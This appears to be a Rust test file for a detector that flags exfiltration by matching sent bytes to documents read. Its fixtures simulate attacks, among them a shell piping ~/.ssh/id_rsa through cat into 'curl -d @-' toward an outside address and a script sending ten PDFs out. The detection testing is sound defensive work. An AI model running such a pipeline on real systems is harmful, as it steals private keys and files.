//! What is found in what was sent, and as much that looks alike.

use super::{DOCUMENTS, OUTSIDE, Scene, TTY, alerts, pipe_in, pipe_out, read_documents};

/// Where a visitor's connection comes from.
const VISITOR: &str = "198.51.100.2:50000";
const KEY: &str = "/home/ann/.ssh/id_rsa";

type Tell = fn(&mut Scene);

/// The first sender that an alert is about.
fn blamed(tell: Tell) -> Option<u32> {
    let mut scene = Scene::new();
    tell(&mut scene);
    scene.stop();
    alerts(&scene).first().map(|alert| alert.process.key.pid)
}

fn check(rows: &[(&str, Tell, Option<u32>)]) {
    for (name, tell, expected) in rows {
        assert_eq!(blamed(*tell), *expected, "{name}");
    }
}

/// A program reads ten documents at once and sends so many bytes.
fn ten_documents(scene: &mut Scene, bytes: u64) {
    scene.spawn(10, 100, "/usr/bin/python3", &["python3", "/root/x.py"]);
    for number in 0..10 {
        scene.read(100, 1_000 + number, &format!("/srv/docs/{number}.pdf"), 200_000);
    }
    scene.connect(100, 7, "198.51.100.2:80");
    scene.send(100, 7, "198.51.100.2:80", bytes, 500_000);
}

#[test]
fn sizes_tell_whether_it_is_what_was_collected() {
    check(&[
        ("as it is", |scene| ten_documents(scene, 2_010_000), Some(100)),
        ("in base64", |scene| ten_documents(scene, 2_700_000), Some(100)),
        ("in hexadecimal", |scene| ten_documents(scene, 4_020_000), Some(100)),
        ("perhaps compressed", |scene| ten_documents(scene, 1_500_000), None),
        ("something else", |scene| ten_documents(scene, 3_050_000), None),
    ]);
}

/// `reader` reads a secret and hands it through a pipe to a curl that uploads what it is fed.
fn piped_to_curl(scene: &mut Scene, secret: &str, size: u64, bytes: u64) {
    scene.spawn(10, 100, "/bin/dash", &["sh", "/root/up.sh"]);
    scene.spawn_with(100, 101, "/usr/bin/cat", &["cat", secret], pipe_out(5));
    let curl = ["curl", "-d", "@-", "http://198.51.100.2/"];
    scene.spawn_with(100, 102, "/usr/bin/curl", &curl, pipe_in(5));
    scene.read(101, 1, secret, size);
    scene.connect(102, 7, "198.51.100.2:80");
    scene.send(102, 7, "198.51.100.2:80", bytes, bytes);
}

#[test]
fn a_secret_that_is_passed_on_and_sent_is_stolen_and_one_that_is_used_is_not() {
    check(&[
        ("a key through a pipe", |scene| piped_to_curl(scene, KEY, 2_600, 3_000), Some(102)),
        ("less than the key", |scene| piped_to_curl(scene, KEY, 2_600, 900), None),
        ("a token for a header", |scene| piped_to_curl(scene, "/root/.vault-token", 95, 1_400), None),
        ("what is no secret", |scene| piped_to_curl(scene, "/srv/app/settings.ini", 2_600, 3_000), None),
        (
            "a client that reads its credentials itself",
            |scene| {
                scene.spawn(10, 100, "/usr/bin/python3", &["python3", "/opt/app/sync.py"]);
                scene.read(100, 1, "/home/ann/.kube/config", 5_600);
                scene.connect(100, 7, OUTSIDE);
                scene.send(100, 7, OUTSIDE, 9_000, 3_000);
            },
            None,
        ),
        (
            "ssh with its identity",
            |scene| {
                scene.spawn(10, 100, "/usr/bin/ssh", &["ssh", "host"]);
                scene.read(100, 1, KEY, 2_600);
                scene.connect(100, 7, "198.51.100.2:22");
                scene.send(100, 7, "198.51.100.2:22", 4_000, 4_000);
            },
            None,
        ),
    ]);
}

/// A web server whose script packs documents into the answer.
fn answers_with_an_archive(scene: &mut Scene) {
    scene.spawn(10, 100, "/usr/sbin/httpd", &["httpd"]);
    scene.spawn_with(100, 101, "/bin/dash", &["sh", "/srv/www/cgi-bin/s"], pipe_out(5));
    scene.spawn_with(101, 102, "/usr/bin/tar", &["tar", "-cz", "/srv/docs"], pipe_out(5));
    read_documents(scene, 102);
    scene.accept(100, 7, VISITOR, 12_050_000);
}

/// A web server of one line, started by `parent`.
fn one_line_server(scene: &mut Scene, parent: u32) {
    scene.spawn(parent, 100, "/usr/bin/python3", &["python3", "-m", "http.server"]);
    read_documents(scene, 100);
    scene.accept(100, 7, VISITOR, 12_050_000);
}

#[test]
fn what_is_served_leaves_when_it_is_nobodys_service_to_serve_it() {
    check(&[
        ("a script's archive", answers_with_an_archive, Some(100)),
        (
            "documents that the server reads itself",
            |scene| {
                scene.spawn(10, 100, "/usr/sbin/httpd", &["httpd"]);
                read_documents(scene, 100);
                scene.accept(100, 7, VISITOR, 12_050_000);
            },
            None,
        ),
        (
            "a server that somebody starts at a terminal",
            |scene| {
                scene.spawn_with(10, 50, "/bin/bash", &["bash"], [TTY; 3]);
                one_line_server(scene, 50);
            },
            Some(100),
        ),
        ("the same as a service", |scene| one_line_server(scene, 10), None),
        (
            "a login that fetches documents",
            |scene| {
                scene.spawn(10, 100, "/usr/sbin/sshd", &["sshd", "-R"]);
                scene.fork(100, 101);
                read_documents(scene, 101);
                scene.accept(100, 7, VISITOR, 12_050_000);
            },
            Some(100),
        ),
        (
            "a login that looks around",
            |scene| {
                scene.spawn(10, 100, "/usr/sbin/sshd", &["sshd", "-R"]);
                scene.spawn_with(100, 101, "/usr/bin/cat", &["cat", "/etc/fstab"], pipe_out(5));
                scene.read(101, 1, "/etc/fstab", 900);
                scene.accept(100, 7, VISITOR, 2_000_000);
            },
            None,
        ),
    ]);
}

#[test]
fn a_sender_that_pauses_is_no_thief_because_its_total_passes_a_size() {
    let mut scene = Scene::new();
    scene.spawn(10, 100, "/usr/bin/editor", &["editor"]);
    read_documents(&mut scene, 100);
    // Reports of 90 kB every two seconds: at some time they are as much as the documents were.
    for report in 1..=140 {
        scene.snapshot(100, 7, OUTSIDE, report * 90_000);
        scene.wait(2);
        scene.tick();
    }
    let told = alerts(&scene);
    let proven: Vec<u64> =
        told.iter().filter_map(|alert| alert.verdict.proof).map(|content| content.sent).collect();
    assert_eq!(proven, [] as [u64; 0], "{DOCUMENTS} documents");
}
